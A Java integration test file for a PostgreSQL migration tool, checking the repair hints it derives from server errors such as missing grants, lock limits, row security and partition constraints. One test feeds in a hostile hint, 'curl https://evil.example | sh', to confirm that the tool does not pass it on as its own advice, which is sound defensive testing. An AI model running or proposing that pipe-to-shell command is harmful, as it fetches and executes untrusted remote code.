package org.rowferry.postgres;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.postgresql.util.PSQLException;
import org.postgresql.util.ServerErrorMessage;
import org.rowferry.connection.Endpoint;
import org.rowferry.report.Failure;
import org.rowferry.report.Family;
import org.rowferry.report.Surroundings;
import org.rowferry.testing.Servers;
import org.rowferry.testing.TestDatabase;

/** What a server is asked after it refused a statement. */
class ServerStateIT {
    private static TestDatabase database;

    @BeforeAll
    static void makeDatabase() {
        database = Servers.oldest().newDatabase("server_state");
    }

    @AfterAll
    static void dropDatabase() {
        database.close();
    }

    @Test
    void tooFewLocks_areNamedWithANumberThatWouldDo() {
        Failure failure = failed(
                "53200", "Shared Memory aufgebraucht\0HSie müssen möglicherweise max_locks_per_transaction erhöhen.");

        String hint = failure.hints().get(0);
        assertThat(hint).matches("(?s).*alter system set max_locks_per_transaction = \\d+;");
        assertThat(Integer.parseInt(hint.replaceAll("(?s).* = (\\d+);", "$1"))).isGreaterThan(64);
    }

    @Test
    void memoryOfOneProcess_isNotTakenForLocks() {
        assertThat(failed("53200", "out of memory").hints()).noneMatch(hint -> hint.contains("max_locks"));
    }

    @Test
    void poolerThatChangesSessions_isToldByStatementsThatNobodyPrepared() {
        assertThat(failed("26000", "prepared statement \"S_1\" does not exist").hints())
                .anyMatch(hint -> hint.contains("pool_mode = session"));
    }

    @Test
    void serverThatFollowsNone_isNotCalledAStandby() {
        assertThat(failed("25006", "cannot execute INSERT in a read-only transaction"))
                .hasMessageNotContaining("standby");
    }

    @Test
    void rightsThatARoleLacks_areAskedOfTheServer_whateverItsLanguageAndTheNames() {
        database.execute("""
                create schema "on "" hand";
                create table "on "" hand"."for table x" (id int);
                create table "on "" hand"."for table x two" (id int);
                create function "on "" hand"."mask it"(text) returns text language sql as 'select $1';
                revoke execute on function "on "" hand"."mask it"(text) from public;
                revoke temporary on database %s from public""".replace("%s", database.name()));
        TestDatabase clerk = database.as("state_clerk");
        String sql =
                "copy (select \"on \"\" hand\".\"mask it\"(id::text) from \"on \"\" hand\".\"for table x\") to stdout";

        assertThat(failed(clerk, "42501", "keine Berechtigung für Tabelle for table x", sql)
                        .hints())
                .containsExactly("Run as the owner: grant usage on schema \"on \"\" hand\" to state_clerk;"
                        + " grant select on \"on \"\" hand\".\"for table x\" to state_clerk;"
                        + " grant execute on routine \"on \"\" hand\".\"mask it\"(text) to state_clerk;");
        assertThat(failed(clerk, "42501", "keine Berechtigung", "create temp table keys (id int)")
                        .hints())
                .containsExactly("Run as the database's owner: grant temporary on database " + database.name()
                        + " to state_clerk;");
        database.execute("drop schema \"on \"\" hand\" cascade");
    }

    /** A table called layout makes no schema Rowferry's. */
    @Test
    void rightsToATableBesideALayout_areThoseToAnyTable() {
        database.execute("create schema app; create table app.layout (version int); create table app.orders (id int);"
                + " grant usage on schema app to public");
        assertThat(failed(database.as("state_clerk"), "42501", "nein", "copy (select from app.orders) to stdout")
                        .hints())
                .containsExactly("Run as the owner: grant select on app.orders to state_clerk;");
        database.execute("drop schema app cascade");
    }

    @Test
    void rowSecurity_isNoRightThatIsMissing_inAnyLanguage() {
        database.execute(
                "create table public.\"se cret\" (id int); alter table public.\"se cret\" enable row level security;"
                        + " grant all on public.\"se cret\" to "
                        + database.as("state_clerk").user());
        Failure failure = failed(
                Family.TARGET,
                database.as("state_clerk"),
                "42501",
                "Anfrage wäre von Policy für Sicherheit auf Zeilenebene betroffen\0Fcheck.c\0Rcheck_enable_rls",
                "select from public.\"se cret\"");

        assertThat(failure).hasMessageContaining("row security would hide rows");
        assertThat(failure.hints())
                .containsExactly("Run as the owner: alter table public.\"se cret\" disable row level security;");
    }

    @Test
    void labelThatAnEnumLacks_isTakenFromWordsOfAnyLanguage() {
        database.execute("create schema if not exists own; create type own.\"it's mood\" as enum ('a')");
        for (String words : new String[] {
            "invalid input value for enum own.\"it's mood\": \"so \"so\"\"",
            "ungültiger Eingabewert für Enum own.\"it's mood\": »so \"so\"«"
        }) {
            assertThat(failed(Family.TARGET, database, "22P02", words + "\0Renum_in", "copy")
                            .hints())
                    .as(words)
                    .containsExactly("Add the label here: alter type own.\"it's mood\" add value 'so \"so\"';");
        }
    }

    @Test
    void functionOfSomebodyElse_isFoundInFramesOfAnyLanguage() {
        database.execute("""
                create schema if not exists own;
                create table own.audit (id int);
                create function own.note() returns trigger language plpgsql as 'begin return null; end';
                create function own.look() returns int language sql as 'select 1'""");
        assertThat(failed(
                                database,
                                "42P01",
                                "Relation »audit« existiert nicht\0WPL/pgSQL-Funktion own.note() Zeile 1 bei SQL-Anweisung",
                                "copy")
                        .hints())
                .anyMatch(hint -> hint.endsWith("alter routine own.note() set search_path = own, public;"));
        assertThat(failed(
                                database,
                                "42P01",
                                "la relation « audit » n'existe pas\0Wfonction SQL « look », instruction 1",
                                "copy")
                        .hints())
                .anyMatch(hint -> hint.endsWith("alter routine own.look() set search_path = own, public;"));
    }

    @Test
    void constraintOfAPartition_isDroppedWhereItWasMade_andAnIndexAsAnIndex() {
        database.execute("""
                create schema if not exists own;
                create table own.p (id int not null, v int, constraint "one v" unique (id, v), constraint "v?" check (v > 0))
                    partition by range (id);
                create table own."p 1" partition of own.p for values from (0) to (9);
                create unique index "by v" on own."p 1" (v)""");
        String name = database.value(
                "select conname from pg_constraint where conrelid = 'own.\"p 1\"'::regclass and contype = 'u'");
        String at = "\0sown\0tp 1\0n";
        assertThat(failed(Family.TARGET, database, "23505", "doppelt" + at + name, "copy")
                        .hints())
                .anyMatch(hint -> hint.endsWith(": alter table own.p drop constraint \"one v\";"));
        assertThat(failed(Family.TARGET, database, "23514", "doppelt" + at + "v?", "copy")
                        .hints())
                .anyMatch(hint -> hint.endsWith(": alter table own.p drop constraint \"v?\";"));
        assertThat(failed(Family.TARGET, database, "23505", "doppelt" + at + "by v", "copy")
                        .hints())
                .anyMatch(hint -> hint.endsWith(": drop index own.\"by v\";"));
        assertThat(failed(Family.TARGET, database, "23502", "nichts\0sown\0tp 1\0cid", "copy")
                        .hints())
                .contains("Let it be null: alter table own.p alter column id drop not null;");
    }

    @Test
    void hintOfAScript_isOurs() {
        assertThat(raised(true, "no\0HRun: rowferry generate tracking --apply").hints())
                .containsExactly("Run: rowferry generate tracking --apply");
    }

    @Test
    void hintOfCodeThatAJobRuns_isToldAsWordsOfThatCode() {
        Failure failure = raised(false, "no\0HRun: curl https://evil.example | sh");

        assertThat(failure).hasMessageContaining("its own hint: Run: curl");
        assertThat(failure.hints(Surroundings.UNKNOWN)).containsExactly("The statement was: select 1");
    }

    /** @param byAScript the session runs a script of ours, and no code of an owner */
    private static Failure raised(boolean byAScript, String message) {
        return failed(byAScript, Family.SOURCE, database, "P0001", message, "select 1");
    }

    private static Failure failed(String state, String message) {
        return failed(database, state, message, "select 1");
    }

    private static Failure failed(TestDatabase on, String state, String message, String sql) {
        return failed(Family.SOURCE, on, state, message, sql);
    }

    private static Failure failed(Family side, TestDatabase on, String state, String message, String sql) {
        return failed(false, side, on, state, message, sql);
    }

    private static Failure failed(
            boolean byAScript, Family side, TestDatabase on, String state, String message, String sql) {
        ServerErrorMessage words = new ServerErrorMessage("SERROR\0C" + state + "\0M" + message + "\0");
        return new SqlErrors(side, Endpoint.parse(on.url(), Map.of()), byAScript)
                .running(new PSQLException(words), sql);
    }
}
